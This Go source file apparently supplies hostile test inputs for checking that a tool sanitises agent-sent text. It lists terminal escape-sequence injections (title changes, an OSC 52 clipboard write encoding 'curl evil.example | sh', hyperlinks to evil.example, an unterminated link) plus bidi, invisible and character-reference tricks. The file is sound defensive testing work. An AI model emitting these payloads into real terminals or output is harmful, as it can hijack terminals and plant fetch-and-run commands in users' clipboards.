package hostile

import "strings"

// Marker strings the attacks carry, so a test can tell an attack that got
// through from elicit's own output.
const (
	TitleMarker     = "PWNED-TITLE"
	ClipboardMarker = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" // base64 of "curl evil.example | sh"
	EvilHost        = "evil.example"
)

// ScreenAttack is what AttackTTY writes to a terminal it opens: a window
// title, a clipboard write, and a clear screen.
const ScreenAttack = "\x1b]0;" + TitleMarker + "\x07\x1b]52;c;" + ClipboardMarker + "\x07\x1b[2J"

// Attacks is the one table of hostile text: every field the agent sends
// carries every entry. Escape sequences, C1 and C0 controls, bidi and
// invisible characters, markdown character references and links. The
// unterminated hyperlink is last: a terminal (and a sanitizer that follows
// it) swallows whatever comes after it.
var Attacks = []string{
	"\x1b[31;5mBLINK\x1b[0m",                                    // SGR: red, blinking
	"\x1b[8mCONCEALED\x1b[28m",                                  // SGR: hidden text
	"\x1b[2J\x1b[H",                                             // clear the screen, cursor home
	"\x1b]0;" + TitleMarker + "\x07",                            // window title (BEL)
	"\x1b]2;" + TitleMarker + "\x1b\\",                          // window title (ST)
	"\x1b]52;c;" + ClipboardMarker + "\x07",                     // clipboard write
	"\x1b]8;;https://" + EvilHost + "/osc8\x07LINK\x1b]8;;\x07", // hyperlink
	"\x1bP+q544e\x1b\\",                                         // DCS: termcap query
	"\x1b_Gi=1;AAAA\x1b\\",                                      // APC: kitty graphics
	"\x1bc",                                                     // full reset
	"\u009b5m\u009d0;" + TitleMarker + "\u009c",                 // C1 CSI and OSC, UTF-8 encoded
	"\a\b\r\x00\x7f",                                            // C0 controls and DEL
	"\u202eRLO\u202c \u2066LRI\u2069 \u200fRLM",                 // bidi
	"Z\u200bW\u200dJ\u200cN\ufeffB\u00adS\u2060W\U000E0041",     // invisibles
	"👨\u200d👩",                                                  // an emoji ZWJ sequence
	"&#x1b;[31;5mREF-BLINK &#27;[8mREF-HIDDEN &#x9b;2J &#155;5m &#x202e;REF-RLO &#x200b;REF-ZWSP &zwj;&rlm;", // references
	"&#x1b;]8;;https://" + EvilHost + "/ref&#x7;REF-LINK&#x1b;]8;;&#x7;",
	"&#x1b;]0;" + TitleMarker + "&#7; &#x1b;]52;c;" + ClipboardMarker + "&#7;",
	"[md-link](https://" + EvilHost + "/md) <https://" + EvilHost + "/auto>",
	"\x1b]8;;https://" + EvilHost + "/unterminated ",
}

// Payload is field's name followed by every attack: the hostile value of
// one field.
func Payload(field string) string {
	return field + ": " + strings.Join(Attacks, " | ")
}

// Short is a shorter hostile value for fields that must stay usable (an id
// the client sends back, a property key): every attack but the
// unterminated hyperlink, which would swallow the rest of a line.
func Short(field string) string {
	return field + ":" + strings.Join(Attacks[:len(Attacks)-1], "|")
}
